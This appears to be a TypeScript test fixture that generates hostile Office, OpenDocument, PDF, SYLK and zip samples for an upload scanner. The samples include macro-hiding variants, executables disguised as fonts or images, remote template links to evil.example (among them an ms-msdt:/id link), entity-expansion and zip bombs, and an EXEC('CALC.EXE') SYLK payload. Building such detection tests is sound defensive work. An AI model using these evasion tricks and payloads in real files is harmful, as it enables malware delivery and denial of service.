import { gzipSync } from "node:zlib";
import type { ContentRule } from "../../../server/media/content-rules.ts";
import type { ErrorCode } from "../../../protocol/errors.ts";
import { type BadRow, ELF, EXE, ODT } from "./bad-contents.ts";
import { compound, type CompoundPart } from "./compound.ts";
import { madeFiles } from "./made-files.ts";
import { book } from "./office-structures.ts";
import { officePackage, type PackageDetails, type Relation } from "./packages.ts";
import { officePaper, openDocument, pdf } from "./papers.ts";
import { zip } from "./zip.ts";

const CODES: Partial<Record<ContentRule, ErrorCode>> = { "second-format": "file_type_mismatch", sylk: "file_type_mismatch" };
const MALFORMED: readonly ContentRule[] = ["archive", "entities", "encoding", "parts", "special", "encrypted", "path", "size", "embedded"];

function row(technique: string, rule: ContentRule, name: string, content: Buffer | string): BadRow {
  const code = CODES[rule] ?? (MALFORMED.includes(rule) ? "file_malformed" : "file_type_dangerous");
  return [technique, code, name, "", content, rule];
}

const letter = (technique: string, rule: ContentRule, details: PackageDetails): BadRow =>
  row(technique, rule, "letter.docx", officePackage("docx", details));
/** A letter with one part more. */
const holding = (technique: string, rule: ContentRule, name: string, content: string | Buffer = "x"): BadRow =>
  letter(technique, rule, { parts: { [name]: content } });

const VBA = compound([{ name: "VBA" }, { name: "dir", content: "x" }]);
const IMAGE = "image";

/** Office files with macros, programs or what leads to them, in every spelling. */
export function officeTricks(): BadRow[] {
  return [...macros(), ...embedded(), ...remote(), ...structure(), ...oldPapers(), ...others()];
}

function macros(): BadRow[] {
  const names = [
    "word/vbaProject.bin",
    "word/VBAProject.bin",
    "xl/vbaproject.BIN",
    "word/vba%50roject.bin",
    "word\\vbaProject.bin",
    "word/_rels/vbaProject.bin.rels",
    "word/vbaData.xml",
    "xl/MacroSheets/sheet1.xml",
    "xl/intlmacrosheets/sheet1.xml",
    "word/ActiveX/activeX1.xml",
    "word/embeddings/Book.XLSM",
    "ppt/embeddings/Talk.pptm",
  ];
  const leads: Relation[] = [
    ["http://schemas.microsoft.com/office/2006/relationships/vbaProject", "theme/theme2.xml"],
    ["http://schemas.microsoft.com/office/2006/relationships/VBAPROJECT", "a.bin"],
    ["http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject", "a.bin"],
    ["http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "a.xml"],
    ["control", "a.xml"],
    ["http://purl.oclc.org/ooxml/officeDocument/relationships/control", "a.xml"],
  ];
  const types = [
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-office.VBAPROJECT",
    "application/vnd.ms-excel.macrosheet+xml",
  ];
  return [
    ...names.map((name) => holding(`macros under the name ${name}`, "macros", name)),
    ...leads.map((lead) =>
      letter(`macros by the relationship ${lead[0]}`, "macros", { leads: [lead], parts: { "word/theme/theme2.xml": "<a/>" } }),
    ),
    ...types.map((type) => letter(`macros by the type ${type}`, "macros", { types: { "word/a.bin": type } })),
    ...types.map((type) => letter(`macros by the type of an extension, ${type}`, "macros", { types: { ".dat": type } })),
    holding("macros in a part whose name says nothing", "macros", "word/media/image1.png", VBA),
    holding("macros of old web pages", "macros", "word/media/a.mso", "ActiveMime\0\0"),
    holding("macros in a page that is taken in", "macros", "word/afchunk.mht", "MIME-Version: 1.0\r\n\r\nQWN0aXZlTWltZQAAAfAE"),
    holding(
      "macros in an embedded table",
      "macros",
      "word/embeddings/a.xlsx",
      officePackage("xlsx", { parts: { "xl/vbaProject.bin": VBA } }),
    ),
    holding(
      "macros two levels deep",
      "macros",
      "word/embeddings/a.pptx",
      officePackage("pptx", { parts: { "ppt/embeddings/a.xlsx": officePackage("xlsx", { parts: { "xl/a.bin": VBA } }) } }),
    ),
    holding(
      "macros in a table in an object",
      "macros",
      "word/embeddings/oleObject1.bin",
      compound([{ name: "Package", content: officePackage("xlsx", { parts: { "xl/vbaProject.bin": "x" } }) }]),
    ),
    holding(
      "macros in an open document in an object",
      "macros",
      "word/embeddings/oleObject1.bin",
      compound([{ name: "EmbeddedOdf", content: openDocument(ODT, [{ name: "Basic/a.xml" }]) }], { mini: true }),
    ),
    holding(
      "macros in an old table in an object",
      "macros",
      "word/embeddings/oleObject1.bin",
      compound([{ name: "Workbook", content: book(1) }]),
    ),
    ...["Basic/Standard/a.xml", "basic/a.xml", "Object 1/Basic/Standard/a.xml", "a/b/SCRIPTS/python/a.py", "Object 1\\Basic\\a.xml"].map(
      (name) => row(`macros under ${name}`, "macros", "letter.odt", openDocument(ODT, [{ name }])),
    ),
    row(
      "macros that the manifest alone names",
      "macros",
      "letter.odt",
      openDocument(ODT, [], '<m:manifest xmlns:m="m"><m:file-entry m:full-path="Object 1/Basic/"/></m:manifest>'),
    ),
    ...madeFiles({ macros: true }).map(({ name, content }) => row(`macros by LibreOffice: ${name}`, "macros", name, content)),
    row(
      "a paper with macros in an archive, under another extension",
      "macros",
      "papers.zip",
      zip([{ name: "a.docx", content: officePackage("docx", { parts: { "word/a.bin": VBA } }) }]),
    ),
    row(
      "an old paper with macros in an archive",
      "macros",
      "papers.zip",
      zip([{ name: "a.doc", content: compound([{ name: "WordDocument" }, { name: "Macros" }]) }]),
    ),
  ];
}

function embedded(): BadRow[] {
  const object = (technique: string, rule: ContentRule, parts: readonly CompoundPart[]): BadRow =>
    holding(technique, rule, "word/embeddings/oleObject1.bin", compound(parts, { mini: true }));
  return [
    holding("a program as an object", "program", "word/embeddings/oleObject1.bin", EXE),
    holding("a short program as a picture", "program", "word/media/image1.png", Buffer.from("MZ\u0090\u0000\u0003", "latin1")),
    holding("a program for Linux as a font", "program", "word/fonts/font1.odttf", ELF),
    holding("a program for Windows as a font", "program", "word/fonts/font1.odttf", EXE),
    holding("Flash as a film", "program", "word/media/a.mp4", Buffer.from("CWS\n\u0000\u0010\u0000\u0000x", "latin1")),
    holding("a shell script as data", "program", "word/a.dat", "#! /bin/sh\nid\n"),
    holding("a link of Windows", "program", "word/a.dat", Buffer.from("4c0000000114020000000000c000000000000046", "hex")),
    holding("a script by its name", "program", "word/embeddings/run.vbs"),
    object("a package of any file", "package", [{ name: "\u0001Ole10Native", content: "\u0010\0\0\0\u0002\0run.exe\0" }]),
    object("a package in other letters", "package", [{ name: "\u0001oLE10nATIVE", content: "\u0010\0\0\0\u0002\0run.exe\0" }]),
    object("the packager", "package", [{ name: "a", classId: "0003000c-0000-0000-c000-000000000046" }]),
    object("the newer packager", "package", [{ name: "a", classId: "f20da720-c02f-11ce-927b-0800095ae340" }]),
    object("a browser", "package", [{ name: "a", classId: "eab22ac3-30c1-11cf-a7eb-0000c05bae0b" }]),
    object("an object that is had from an address", "remote", [
      { name: "\u0001Ole", content: Buffer.from(`${"00".repeat(16)}e0c9ea79f9bace118c8200aa004ba90b`, "hex") },
    ]),
    holding("objects in a text that is taken in", "package", "word/afchunk.rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
    ...["{\\rt{\\object\\objemb}}", "\ufeff{\\rtf1{\\object}}", "\0{\\rtf1{\\object}}", "{{\\RTF1{\\object}}"].map((text) =>
      holding(`objects in a text that begins with ${JSON.stringify(text.slice(0, 6))}`, "package", "word/afchunk.rtf", text),
    ),
    row(
      "a package in an open document",
      "package",
      "letter.odt",
      openDocument(ODT, [{ name: "Object 1", content: compound([{ name: "\u0001Ole10Native", content: "xxxxxxxx" }]) }]),
    ),
    row("a program in an archive as a picture", "program", "papers.zip", zip([{ name: "a.jpg", content: EXE }])),
  ];
}

function remote(): BadRow[] {
  const leads: Relation[] = [
    ["attachedTemplate", "http://evil.example/a.dotm", true],
    ["attachedTemplate", "HTTPS://evil.example/a.dotx", true],
    ["attachedTemplate", "\\\\evil.example\\a\\a.dotm", true],
    ["attachedTemplate", "\\\\192.0.2.1@80\\a\\a.dotm", true],
    ["attachedTemplate", "//3221225985/a.dotm", true],
    ["attachedTemplate", "\\\\0xC0000201\\a\\a.dotm", true],
    ["attachedTemplate", "file://evil.example/a.dotm", true],
    ["attachedTemplate", "file:\\\\\\\\evil.example\\a.dotm", true],
    ["attachedTemplate", "ht&#116;p://evil.example/a.dotm", true],
    ["attachedTemplate", "h&#x9;ttp://evil.example/a.dotm", true],
    ["oleObject", "http://evil.example/a.html!", true],
    ["oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html", true],
    ["frame", "https://evil.example/", true],
    ["subDocument", "ftp://evil.example/a.docx", true],
    ["aFChunk", "https://evil.example/a.htm", true],
    ["http://schemas.example/relationships/something", "https://evil.example/", true],
    [IMAGE, "file://evil.example/a.png", true],
    [IMAGE, "\\\\evil.example\\a.png", true],
    [IMAGE, "ms-msdt:/id", true],
  ];
  return [
    ...leads.map((lead) => letter(`${lead[0]} from ${lead[1]}`, "remote", { leads: [lead] })),
    holding(
      "a template from elsewhere in other lists",
      "remote",
      "word/_rels/SETTINGS.XML.RELS",
      '<r:Relationships xmlns:r="r"><r:Relationship r:Type="x/hyperlink" Type="x/attachedTemplate" TargetMode="external" Target="http://evil.example/a"/></r:Relationships>',
    ),
  ];
}

function structure(): BadRow[] {
  const bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>';
  const outside = '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>';
  const types = '<Types><Override PartName="/word/a.bin" ContentType="text/plain"/></Types>';
  const device = (kind: number): Buffer => zip([{ name: "a", content: "x", method: 0, attributes: (kind << 16) >>> 0 }]);
  const kinds = [
    [0o120777, "link"],
    [0o010644, "pipe"],
    [0o020644, "device of characters"],
    [0o060644, "device of blocks"],
    [0o140644, "socket"],
  ] as const;
  return [
    holding("entities that grow in the main part", "entities", "word/document.xml", bomb),
    holding("entities that grow in another part", "entities", "customXml/item1.xml", bomb),
    holding("entities in a part without an extension", "entities", "word/a", `\r\n ${bomb.slice(21)}`),
    holding("entities behind a long comment", "entities", "word/a.xml", `<!--${"x".repeat(70_000)}-->${bomb.slice(21)}`),
    holding("entities in UTF-16", "entities", "word/a.xml", Buffer.from(`\ufeff${bomb.slice(21)}`, "utf16le")),
    holding("entities in UTF-16 without a mark, big end first", "entities", "word/a.xml", Buffer.from(bomb, "utf16le").swap16()),
    holding("entities in a drawing that name each other", "entities", "word/media/a.svg", bomb.replaceAll("DOCTYPE a", "DOCTYPE svg")),
    holding("entities in a list of relationships", "entities", "word/_rels/a.xml.rels", bomb),
    holding("a document type from elsewhere", "entities", "word/a.xml", outside),
    holding("a document type within the list of types", "entities", "[Content_Types].xml", bomb),
    row("entities in an open document", "entities", "letter.odt", openDocument(ODT, [{ name: "styles.xml", content: bomb }])),
    row("entities in the manifest", "entities", "letter.odt", openDocument(ODT, [], bomb)),
    ...["utf-7", "IBM037", "utf-32", "iso-2022-jp", "shift_jis"].map((encoding) =>
      holding(
        `relationships declared as ${encoding}`,
        "encoding",
        "word/_rels/a.xml.rels",
        `<?xml version='1.0' encoding='${encoding}'?><Relationships/>`,
      ),
    ),
    holding("a second list of types", "parts", "[content_types].XML", types),
    holding("a second list of types by codes", "parts", "%5BContent_Types%5D.xml", types),
    holding("a part twice, in other letters", "parts", "word/Document.xml", "<a/>"),
    holding("a list of types in pieces", "parts", "[Content_Types].xml/[0].piece", types),
    row("a part of an open document twice", "parts", "letter.odt", openDocument(ODT, [{ name: "Content.xml" }])),
    holding("an archive in a paper", "archive", "word/embeddings/a.bin", zip([{ name: "a.txt", content: "x" }])),
    holding("an archive in a paper by its name", "archive", "word/embeddings/a.ZIP", "x"),
    holding("a packed archive in a paper", "archive", "word/media/image1.png", gzipSync("x")),
    holding("a RAR in a paper", "archive", "word/a.dat", Buffer.from("Rar!\u001a\u0007\u0000", "latin1")),
    row(
      "an archive in an open document",
      "archive",
      "letter.odt",
      openDocument(ODT, [{ name: "Object 1", content: zip([{ name: "a.txt" }]) }]),
    ),
    row(
      "an archive in an archive under another extension",
      "archive",
      "papers.zip",
      zip([{ name: "a.jpg", content: zip([{ name: "a.txt" }]) }]),
    ),
    row(
      "papers in papers in papers in papers",
      "embedded",
      "letter.docx",
      [1, 2, 3, 4].reduce((inner) => officePackage("docx", { parts: { "word/embeddings/a.docx": inner } }), officePackage("docx")),
    ),
    row(
      "a bomb in an embedded table",
      "size",
      "letter.docx",
      officePackage("docx", {
        parts: { "word/embeddings/a.xlsx": officePackage("xlsx", { parts: { "xl/a.xml": Buffer.alloc(9_000_000) } }) },
      }),
    ),
    row(
      "bombs in many embedded tables",
      "size",
      "letter.docx",
      officePackage("docx", {
        parts: Object.fromEntries(
          Array.from({ length: 40 }, (_, index) => [
            `word/embeddings/${index}.xlsx`,
            officePackage("xlsx", { parts: { "xl/a.xml": Buffer.alloc(900_000) } }),
          ]),
        ),
      }),
    ),
    ...kinds.map(([kind, what]) => row(`an archive with a ${what}`, "special", "papers.zip", device(kind))),
  ];
}

function oldPapers(): BadRow[] {
  const old = (technique: string, rule: ContentRule, name: string, parts: readonly CompoundPart[]): BadRow =>
    row(technique, rule, name, compound(parts));
  const main = { name: "WordDocument", content: Buffer.alloc(40) };
  const talk = Buffer.concat([
    Buffer.alloc(505),
    Buffer.from("1f00ff0314000000020000040c000000", "hex"),
    Buffer.from([1, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0]),
  ]);
  const locked = Buffer.alloc(40);
  locked.writeUInt16LE(0x0100, 10);
  return [
    ...["macros", "vBA", "Macros", "_vba_project_cur", "_VBA_Project"].map((name) =>
      old(`macros in a storage named ${name}`, "macros", "letter.doc", [main, { name }]),
    ),
    old("a sheet of macros", "macros", "table.xls", [{ name: "Workbook", content: book(1) }]),
    old("a sheet of macros in an older table", "macros", "table.xls", [{ name: "BOOK", content: book(1) }]),
    old("macros in an old talk", "macros", "talk.ppt", [{ name: "PowerPoint Document", content: talk }]),
    old("a package in an old letter", "package", "letter.doc", [main, { name: "\u0001Ole10Native", content: "xxxxxx" }]),
    row("an old talk whose streams are all the same bytes", "size", "talk.ppt", repeated()),
    old("an encrypted old letter", "encrypted", "letter.doc", [{ name: "WordDocument", content: locked }]),
    old("an encrypted old table", "encrypted", "table.xls", [{ name: "Workbook", content: book(0, [[0x002f, Buffer.alloc(4)]]) }]),
  ];
}

/** A compound file whose two hundred streams all are its first. */
function repeated(): Buffer {
  const name = "PowerPoint Document";
  const parts = Array.from({ length: 200 }, (_, index) => ({ name, ...(index === 0 ? { content: Buffer.alloc(30_000) } : {}) }));
  const file = compound(parts);
  const rowOf = (index: number): number => 1_024 + 128 * (index + 1);
  const first = Buffer.from(file.subarray(rowOf(0), rowOf(1)));
  for (let index = 1; index < 200; index += 1) first.copy(file, rowOf(index));
  return file;
}

function others(): BadRow[] {
  const archive = zip([{ name: "a.txt", content: "x" }]);
  const text = (technique: string, name: string, content: string): BadRow => row(technique, "sylk", name, content);
  const sylk = 'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC("CALC.EXE")\r\nE\r\n';
  const end = pdf().toString("latin1");
  return [
    row(
      "a PDF around an archive",
      "second-format",
      "paper.pdf",
      Buffer.concat([
        Buffer.from("%PDF-1.7\n% "),
        Buffer.alloc(3_000, 0x20),
        placed(archive, 3_011),
        Buffer.from(`\n${"% ".repeat(200)}${end.slice(9)}`, "latin1"),
      ]),
    ),
    row(
      "a PDF around an archive with a comment that is told too short",
      "second-format",
      "paper.pdf",
      Buffer.concat([Buffer.from("%PDF-1.7\n"), placed(archive, 9), Buffer.alloc(9_000, 0x20), Buffer.from(end.slice(9))]),
    ),
    ...[
      ["an archive as its source", archive],
      ["a letter with macros as its source", officePackage("docx", { parts: { "word/a.bin": VBA } })],
    ].map(([what, source]) =>
      row(
        `a PDF with ${String(what)}`,
        "second-format",
        "paper.pdf",
        Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.from(source ?? ""), Buffer.alloc(900, 0x20), Buffer.from(end.slice(9))]),
      ),
    ),
    row(
      "a PDF with a RAR in it",
      "second-format",
      "paper.pdf",
      Buffer.concat([
        Buffer.from("%PDF-1.7\n"),
        Buffer.alloc(9_000, 0x20),
        Buffer.from("Rar!\u001a\u0007\u0001", "latin1"),
        Buffer.from(end.slice(9)),
      ]),
    ),
    ...["table.csv", "notes.txt", "README.md"].map((name) => text(`SYLK as ${name}`, name, sylk)),
    text("SYLK in small letters", "table.csv", 'id;pwxl;n;e\nC;Y1;X1;K"a"\nE\n'),
    text("SYLK with its commands far away", "table.csv", `ID;P\n${"x\n".repeat(60_000)}C;X1;Y1;EEXEC("x")\n`),
    row(
      "an encrypted open document",
      "encrypted",
      "letter.odt",
      openDocument(ODT, [], '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>'),
    ),
    row(
      "a template from elsewhere in an embedded letter",
      "remote",
      "table.xlsx",
      officePackage("xlsx", {
        parts: { "xl/embeddings/a.docx": officePackage("docx", { leads: [["attachedTemplate", "http://evil.example/", true]] }) },
      }),
    ),
    row(
      "any package with a program as an installer",
      "program",
      "letter.docx",
      officePaper("docx", [{ name: "word/embeddings/setup.exe", content: "MZ" }]),
    ),
  ];
}

/** An archive whose places count from `before` bytes earlier. */
function placed(archive: Buffer, before: number): Buffer {
  const moved = Buffer.from(archive);
  const end = moved.length - 22;
  moved.writeUInt32LE(moved.readUInt32LE(end + 16) + before, end + 16);
  return moved;
}
